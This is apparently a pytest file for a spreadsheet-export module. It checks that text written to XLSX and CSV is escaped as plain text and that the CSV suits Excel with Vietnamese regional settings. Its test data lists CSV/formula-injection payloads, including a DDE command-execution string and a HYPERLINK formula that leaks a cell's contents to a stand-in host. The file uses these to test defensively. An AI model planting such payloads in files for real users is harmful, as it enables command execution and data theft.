"""Tables written for people: no text ever becomes a formula in Excel, and a CSV opens in columns
in Excel with Vietnamese regional settings."""
from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ocop_docs.io.output_tables import Column, csv_bytes, workbook_bytes, xlsx_bytes

COLUMNS = [Column("STT", 6, "int"), Column("Tên sản phẩm", 36), Column("Điểm", 10, "score"), Column("Ngày", 12, "date")]
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")', "+84 912 000 111", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_a_text_excel_would_run_is_written_as_text_in_xlsx(text, tmp_path):
    data = xlsx_bytes("Kết quả", COLUMNS, [[1, text, Decimal("78.25"), dt.date(2026, 10, 28)]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    path = tmp_path / "t.xlsx"
    path.write_bytes(data)
    cell = load_workbook(path).active["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_a_header_and_every_sheet_of_a_workbook_are_guarded_too(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(workbook_bytes([("A", [Column("=HYPERLINK(\"x\")")], [["@x"]]), ("B", [Column("Tên")], [["-1"]])]))
    wb = load_workbook(path)
    cells = [wb["A"]["A1"], wb["A"]["A2"], wb["B"]["A2"]]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_every_sheet_has_a_filter_on_its_header_row(tmp_path):
    path = tmp_path / "t.xlsx"
    path.write_bytes(workbook_bytes([("A", COLUMNS, [[1, "Trà", Decimal("70"), None], [2, "Cam", None, None]]),
                                     ("B", [Column("Tên")], [])]))
    wb = load_workbook(path)
    assert (wb["A"].auto_filter.ref, wb["B"].auto_filter.ref) == ("A1:D3", "A1:A1")


def test_csv_for_excel_in_vietnam():
    rows = [[1, "Cam; bưởi", Decimal("78.25"), dt.date(2026, 10, 28)], [2, "=cmd|' /C calc'!A0", 66.5, None]]
    data = csv_bytes(COLUMNS, rows)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the marks, not mojibake
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "STT;Tên sản phẩm;Điểm;Ngày"
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1:] == [
        ["1", "Cam; bưởi", "78,25", "28/10/2026"],
        ["2", "'=cmd|' /C calc'!A0", "66,50", ""],
    ]
    for hostile in HOSTILE:
        text = csv_bytes(COLUMNS, [[1, hostile, None, None]]).decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(text), delimiter=";"))[1][1] == "'" + hostile
